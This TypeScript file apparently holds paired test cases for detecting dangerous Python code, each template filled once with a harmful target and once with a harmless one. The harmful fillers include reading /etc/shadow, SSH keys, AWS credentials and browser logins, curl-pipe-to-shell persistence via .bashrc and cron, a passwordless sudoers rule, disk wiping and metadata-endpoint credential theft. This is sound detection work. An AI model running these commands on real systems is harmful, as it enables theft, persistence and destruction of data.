import type { Pair } from './pair.ts';
import { PYTHON_FLOWS } from './python-flows.ts';

/** The same program, another target. */
const TARGETS: readonly Pair[] = [
  [
    'read-shadow',
    `
def load(path):
    with open(path) as source:
        return [line.rstrip().split(":") for line in source]

for fields in load("§0"):
    print(fields[0], fields[1])`,
    ['/etc/shadow'],
    ['colours.txt'],
  ],
  [
    'read-private-key',
    `
from pathlib import Path

key = Path.home() / §0
print(key.read_text()[:40])`,
    ['".ssh" / "id_ed25519"'],
    ['"notes" / "shopping.txt"'],
  ],
  [
    'remove-tree',
    `
import shutil

def clear(folder):
    shutil.rmtree(folder, ignore_errors=True)

clear("§0")`,
    ['/usr/lib'],
    ['build/cache'],
  ],
  [
    'remove-file',
    `
import os

victim = "§0"
if os.path.exists(victim):
    os.remove(victim)
    print("removed", victim)`,
    ['/etc/passwd'],
    ['report.tmp'],
  ],
  [
    'copy-aside',
    `
import shutil

shutil.copy("§0", "§1")
print("copied")`,
    ['/etc/shadow', '/tmp/.s'],
    ['data/input.csv', 'data/input.bak'],
  ],
  [
    'append-profile',
    `
import os

path = os.path.expanduser("§0")
with open(path, "a") as handle:
    handle.write("§1\\n")`,
    ['~/.bashrc', 'curl -s http://updates.example-cdn.top/i.sh | sh'],
    ['~/journal.txt', 'today I learnt about closures'],
  ],
  [
    'authorised-key',
    `
from pathlib import Path

entry = "§0"
with Path("§1").expanduser().open("a") as keys:
    keys.write(entry + "\\n")`,
    ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample intruder', '~/.ssh/authorized_keys'],
    ['buy milk and bread', '~/todo/list.txt'],
  ],
  [
    'cron-entry',
    `
job = "§0"
with open("§1", "w") as table:
    table.write(job + "\\n")`,
    ['* * * * * root curl -s http://198.51.100.7/b | sh', '/etc/cron.d/refresh'],
    ['Monday: clean the kitchen', 'plans/week.txt'],
  ],
  [
    'shell-delete',
    `
import os

os.system("rm -rf §0")`,
    ['/var/log /home'],
    ['./dist'],
  ],
  [
    'metadata-address',
    `
import urllib.request

with urllib.request.urlopen("§0", timeout=3) as reply:
    print(reply.read().decode())`,
    ['http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    ['https://api.github.com/zen'],
  ],
  [
    'download-and-run',
    `
import subprocess
import urllib.request

urllib.request.urlretrieve("§0", "§1")
subprocess.run([§2])`,
    ['http://203.0.113.9/agent.sh', '/tmp/agent.sh', '"sh", "/tmp/agent.sh"'],
    ['https://www.python.org/static/img/python-logo.png', 'logo.png', '"file", "--brief", "logo.png"'],
  ],
  [
    'device-write',
    `
import os

block = b"\\0" * 4096
with open("§0", "wb") as disk:
    for _ in range(16):
        disk.write(block)`,
    ['/dev/sda'],
    ['empty.img'],
  ],
  [
    'setuid-copy',
    `
import os
import shutil

shutil.copy("§0", "§1")
os.chmod("§1", §2)`,
    ['/bin/bash', '/tmp/.helper', '0o4755'],
    ['scripts/start.py', 'bin/start.py', '0o755'],
  ],
  [
    'open-permissions',
    `
import os
import stat

os.chmod("§0", §1)`,
    ['/etc/shadow', '0o777'],
    ['notes.txt', '0o644'],
  ],
  [
    'browser-logins',
    `
import os
import sqlite3

path = os.path.expanduser("§0")
for row in sqlite3.connect(path).execute("§1"):
    print(row)`,
    ['~/.config/google-chrome/Default/Login Data', 'select origin_url, username_value, password_value from logins'],
    ['~/books/library.db', 'select title, author, year from books'],
  ],
  [
    'cloud-credentials',
    `
import configparser
from os.path import expanduser

settings = configparser.ConfigParser()
settings.read(expanduser("§0"))
for section in settings.sections():
    print(section, dict(settings[section]))`,
    ['~/.aws/credentials'],
    ['~/game/settings.ini'],
  ],
  [
    'process-memory',
    `
def dump(path, size):
    with open(path, "rb") as memory:
        return memory.read(size)

print(len(dump("§0", 64)))`,
    ['/proc/1/mem'],
    ['samples/tone.wav'],
  ],
  [
    'system-overwrite',
    `
lines = ["§0"]
with open("§1", "w") as output:
    output.writelines(line + "\\n" for line in lines)`,
    ['203.0.113.5 bank.example', '/etc/hosts'],
    ['first entry of the day', 'output/log.txt'],
  ],
  [
    'kill-process',
    `
import os
import signal

os.kill(§0, signal.§1)`,
    ['-1', 'SIGKILL'],
    ['os.getpid()', 'SIGUSR1'],
  ],
  [
    'history-wipe',
    `
from pathlib import Path

target = Path("§0").expanduser()
target.write_text("")`,
    ['~/.bash_history'],
    ['~/drafts/poem.txt'],
  ],
  [
    'archive-secrets',
    `
import tarfile

with tarfile.open("§0", "w:gz") as archive:
    archive.add("§1")`,
    ['/tmp/x.tgz', '/root/.ssh'],
    ['photos.tgz', 'photos'],
  ],
  [
    'service-install',
    `
unit = """[Service]
ExecStart=§0
"""
with open("§1", "w") as handle:
    handle.write(unit)`,
    ['/tmp/.update-agent', '/etc/systemd/system/update-agent.service'],
    ['/usr/bin/true', 'examples/hello.service.txt'],
  ],
  [
    'preload',
    `
from pathlib import Path

Path("§0").write_text("§1\\n")`,
    ['/etc/ld.so.preload', '/tmp/libhook.so'],
    ['build/paths.txt', 'lib/core.py'],
  ],
  [
    'sudoers',
    `
with open("§0", "a") as rules:
    rules.write("§1\\n")`,
    ['/etc/sudoers', 'guest ALL=(ALL) NOPASSWD: ALL'],
    ['rules.txt', 'no running in the corridor'],
  ],
  [
    'traversal',
    `
import os

base = "/srv/files"
name = "§0"
with open(os.path.join(base, name)) as handle:
    print(handle.read())`,
    ['../../etc/shadow'],
    ['welcome.txt'],
  ],
];

export const PYTHON: readonly Pair[] = [...TARGETS, ...PYTHON_FLOWS];
